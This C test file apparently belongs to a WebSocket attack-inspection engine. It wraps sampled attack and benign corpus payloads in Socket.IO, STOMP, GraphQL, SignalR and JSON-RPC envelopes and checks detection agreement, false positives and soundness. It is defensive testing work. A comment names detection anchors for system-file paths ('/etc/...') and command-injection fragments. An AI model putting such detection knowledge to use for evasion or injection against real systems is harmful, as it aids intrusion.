	WSG_ENV_SIO, WSG_ENV_JSON, WSG_ENV_GQL_VAR, WSG_ENV_STOMP_TEXT, WSG_ENV_STOMP_JSON,
	WSG_ENV_SIGNALR, WSG_ENV_JSONRPC, WSG_ENV_UESC, WSG_ENV_GQL_LIT, WSG_ENV_SIGNALR_MP,
	WSG_ENV_COUNT
};

static const struct {
	const char *name;
	enum wsg_framework fw;	/* what the handshake would choose */
	int is_text;
	/*
	 * Agreement floor in percent. 95 where the payload is no JSON string: detections that
	 * rest on the JSON quote as the start of a value ("/etc/..., "time who) have no quote
	 * to anchor on in the raw bytes there, and soundness forbids inventing one.
	 */
	int floor;
	/*
	 * Its clients always name fw in the handshake (GraphQL over WebSocket requires the
	 * subprotocol): the "auto" column reads it as fw too. Without the offer a "query"
	 * member is no document (inspect.c).
	 */
	int declared;
} wsg_envs[WSG_ENV_COUNT] = {
	[WSG_ENV_SIO] = { "socket.io event", WSG_FW_SOCKETIO, 1, 99 },
	[WSG_ENV_JSON] = { "plain JSON field", WSG_FW_JSON, 1, 99 },
	[WSG_ENV_GQL_VAR] = { "graphql-ws variable", WSG_FW_GRAPHQL, 1, 99, 1 },
	[WSG_ENV_STOMP_TEXT] = { "STOMP SEND text body", WSG_FW_STOMP, 1, 95 },
	[WSG_ENV_STOMP_JSON] = { "STOMP SEND JSON body", WSG_FW_STOMP, 1, 99 },
	[WSG_ENV_SIGNALR] = { "SignalR JSON argument", WSG_FW_SIGNALR, 1, 99 },
	[WSG_ENV_JSONRPC] = { "JSON-RPC params", WSG_FW_JSONRPC, 1, 99 },
	[WSG_ENV_UESC] = { "socket.io all \\u-escaped", WSG_FW_SOCKETIO, 1, 99 },
	[WSG_ENV_GQL_LIT] = { "graphql inline literal", WSG_FW_GRAPHQL, 1, 95, 1 },
	[WSG_ENV_SIGNALR_MP] = { "SignalR MessagePack arg", WSG_FW_SIGNALR, 0, 95 },
};

static void wsg_envelope(int env, const char *p, size_t n, struct wsg_buf *b)
{
	char num[32];

	b->n = 0;
	switch (env) {
	case WSG_ENV_SIO:
	case WSG_ENV_UESC:
		wsg_puts(b, "42[\"chat message\",\"");
		wsg_put_json(b, p, n, env == WSG_ENV_UESC);
		wsg_puts(b, "\"]");
		break;
	case WSG_ENV_JSON:
		wsg_puts(b, "{\"text\":\"");
		wsg_put_json(b, p, n, 0);
		wsg_puts(b, "\"}");
		break;
	case WSG_ENV_GQL_VAR:
		wsg_puts(b, "{\"id\":\"1\",\"type\":\"subscribe\",\"payload\":{\"query\":\"subscription "
			 "OnChat($text: String!) { chat(text: $text) { id } }\",\"variables\":"
			 "{\"text\":\"");
		wsg_put_json(b, p, n, 0);
		wsg_puts(b, "\"}}}");
		break;
	case WSG_ENV_GQL_LIT:
		wsg_puts(b, "{\"id\":\"1\",\"type\":\"subscribe\",\"payload\":{\"query\":\"mutation "
			 "{ send(text: ");
		wsg_put_gql_json(b, p, n);
		wsg_puts(b, ") { id } }\"}}");
		break;
	case WSG_ENV_STOMP_TEXT:
		snprintf(num, sizeof(num), "%zu", n);
		wsg_puts(b, "SEND\ndestination:/app/chat\ncontent-type:text/plain\ncontent-length:");
		wsg_puts(b, num);
		wsg_puts(b, "\n\n");
		wsg_put(b, p, n);
		wsg_put(b, "", 1);
		break;
	case WSG_ENV_STOMP_JSON:
		wsg_puts(b, "SEND\ndestination:/app/chat\ncontent-type:application/json\n\n"
			 "{\"text\":\"");
		wsg_put_json(b, p, n, 0);
		wsg_puts(b, "\"}");
		wsg_put(b, "", 1);
		break;
	case WSG_ENV_SIGNALR:
		wsg_puts(b, "{\"type\":1,\"target\":\"SendMessage\",\"arguments\":[\"alice\",\"");
		wsg_put_json(b, p, n, 0);
		wsg_puts(b, "\"]}\x1e");
		break;
	case WSG_ENV_JSONRPC:
		wsg_puts(b, "{\"jsonrpc\":\"2.0\",\"method\":\"chat.send\",\"params\":{\"room\":"
			 "\"general\",\"text\":\"");
		wsg_put_json(b, p, n, 0);
		wsg_puts(b, "\"},\"id\":7}");
		break;
	case WSG_ENV_SIGNALR_MP: {
		unsigned char *rec = malloc(n + 64);
		size_t m;

		if (!rec)
			abort();
		/* only payloads that fit str16; longer ones are skipped by the caller */
		m = wsg_sr_invocation(rec, "SendMessage", p, n);
		wsg_put(b, rec, m);
		free(rec);
		break;
	}
	}
}

struct wsg_payload {
	char *s;
	size_t len;
};

static int wsg_raw_has_trigger(const char *raw, size_t len)
{
	const char *const *a;
	size_t n;

	for (int pass = 0; pass < 2; pass++) {
		if (pass)
			wsg_inspect_anchors(&a, NULL, &n);
		else
			wsg_inspect_escapes(&a, &n);
		for (size_t k = 0; k < n; k++) {
			size_t m = strlen(a[k]);

			for (size_t i = 0; i + m <= len; i++)
				if (!strncasecmp(raw + i, a[k], m))
					return 1;
		}
	}
	return 0;
}

struct wsg_env_stats {
	unsigned blocked[WSG_ENV_COUNT][2];	/* [env][auto, handshake framework] */
	unsigned agree[WSG_ENV_COUNT][2];	/* blocked here among those blocked as sio */
	unsigned new_fp[WSG_ENV_COUNT][2];	/* benign: allowed as sio, blocked here */
	unsigned unsound[WSG_ENV_COUNT];
	unsigned tried[WSG_ENV_COUNT];
	unsigned attacks, sio_blocked, benign;
};

static void wsg_env_judge(struct wsg_env_stats *st, const struct wsg_pf_table *pf,
			  const char *id, const struct wsg_payload *pl, int attack)
{
	struct wsg_buf b = {};
	int sio = -1;

	for (int env = 0; env < WSG_ENV_COUNT; env++) {
		if (env == WSG_ENV_SIGNALR_MP && pl->len > 8000)
			continue;
		wsg_envelope(env, pl->s, pl->len, &b);
		st->tried[env] += !attack || sio > 0;
		for (int k = 0; k < 2; k++) {
			struct wsg_finding f = {};
			enum wsg_framework fw = k || wsg_envs[env].declared ? wsg_envs[env].fw :
									       WSG_FW_AUTO;
			int blk = wsg_inspect(fw, wsg_envs[env].is_text, b.s, b.n, &f);

			if (env == WSG_ENV_SIO && !k)
				sio = blk;
			st->blocked[env][k] += blk && attack;
			if (attack && sio > 0)
				st->agree[env][k] += blk;
			if (!attack && !sio && blk) {
				st->new_fp[env][k]++;
				if (getenv("WSG_CORPUS_VERBOSE"))
					printf("#   FP %s [%s] %s %s\n", wsg_envs[env].name,
					       k ? "fw" : "auto", id, f.rule);
			}
			if (attack && sio > 0 && !blk && getenv("WSG_CORPUS_VERBOSE"))
				printf("#   MISS %s [%s] %s %.100s\n", wsg_envs[env].name,
				       k ? "fw" : "auto", id, pl->s);
			if (blk && (!wsg_raw_has_trigger(b.s, b.n) ||
				    !wsg_pf_message(pf, (const unsigned char *)b.s, b.n))) {
				st->unsound[env]++;
				printf("#   unsound %s %s %s\n", wsg_envs[env].name, id, f.rule);
			}
		}
	}
	st->sio_blocked += attack && sio > 0;
	free(b.s);
}

/* Every 10th expect_block line of each class (at most 200 a class), and every benign line. */
static void wsg_env_file(struct wsg_env_stats *st, const struct wsg_pf_table *pf,
			 const char *file, int attacks)
{
	char path[4200], *line = NULL, cls[20][48] = {};
	unsigned seen[20] = {}, taken[20] = {};
	size_t cap = 0;
	FILE *in;

	snprintf(path, sizeof(path), "%s/%s", wsg_eval_dir, file);
	in = fopen(path, "r");
	if (!in)
		return;
	while (getline(&line, &cap, in) > 0) {
		cJSON *d = cJSON_Parse(line);
		cJSON *c = cJSON_GetObjectItem(d, "class"), *e = cJSON_GetObjectItem(d, "expect_block");
		cJSON *id = cJSON_GetObjectItem(d, "id");
		struct wsg_payload pl;
		int k = 0;

		if (!d || (attacks && (!cJSON_IsTrue(e) || !cJSON_IsString(c)))) {
			cJSON_Delete(d);
			continue;
		}
		if (attacks) {
			while (k < 19 && cls[k][0] && strcmp(cls[k], c->valuestring))
				k++;
			if (!cls[k][0])
				snprintf(cls[k], sizeof(cls[k]), "%s", c->valuestring);
			if (seen[k]++ % 10 || taken[k] >= 200) {
				cJSON_Delete(d);
				continue;
			}
			taken[k]++;
		}
		if (wsg_eval_payload(line, &pl.s, &pl.len)) {
			if (attacks)
				st->attacks++;
			else
				st->benign++;
			wsg_env_judge(st, pf, cJSON_IsString(id) ? id->valuestring : "?", &pl,
				      attacks);
			free(pl.s);
		}
		cJSON_Delete(d);
	}
	free(line);
	fclose(in);
}

WSG_TEST(envelopes_dev_corpus)
{
	static struct wsg_pf_table pf;
	static struct wsg_env_stats st;

	REQUIRE(wsg_inspect_init() == 0, "init");
	if (!wsg_find_eval())
		SKIP("eval corpus not found (set WSG_EVAL_DIR)");
	wsg_pf_build(&pf);
	wsg_env_file(&st, &pf, "attacks-dev.jsonl", 1);
	wsg_env_file(&st, &pf, "benign-dev.jsonl", 0);
	REQUIRE(st.attacks > 500 && st.benign > 1000, "sample too small");
	printf("# envelopes: %u attacks sampled, %u blocked as a Socket.IO event; %u benign\n",
	       st.attacks, st.sio_blocked, st.benign);
	printf("# %-28s %9s %14s %14s %12s %8s\n", "envelope", "blocked", "agree (auto)",
	       "agree (fw)", "new FP a/fw", "unsound");
	for (int env = 0; env < WSG_ENV_COUNT; env++) {
		double a = 100.0 * st.agree[env][0] / (st.sio_blocked ? st.sio_blocked : 1);
		double h = 100.0 * st.agree[env][1] / (st.sio_blocked ? st.sio_blocked : 1);

		printf("# %-28s %8.2f%% %13.2f%% %13.2f%% %6u/%-5u %8u\n", wsg_envs[env].name,
		       100.0 * st.blocked[env][0] / (st.attacks ? st.attacks : 1), a, h,
		       st.new_fp[env][0], st.new_fp[env][1], st.unsound[env]);
		CHECK(a >= wsg_envs[env].floor && h >= wsg_envs[env].floor,
		      "%s: agreement %.2f%% / %.2f%%", wsg_envs[env].name, a, h);
		CHECK(!st.new_fp[env][0] && !st.new_fp[env][1], "%s: %u/%u benign lines blocked",
		      wsg_envs[env].name, st.new_fp[env][0], st.new_fp[env][1]);
		/* blocks the prefilter would fast-path: none beyond the Socket.IO form's own */
		CHECK(st.unsound[env] <= st.unsound[WSG_ENV_SIO], "%s: %u unsound blocks",
		      wsg_envs[env].name, st.unsound[env]);
	}
}
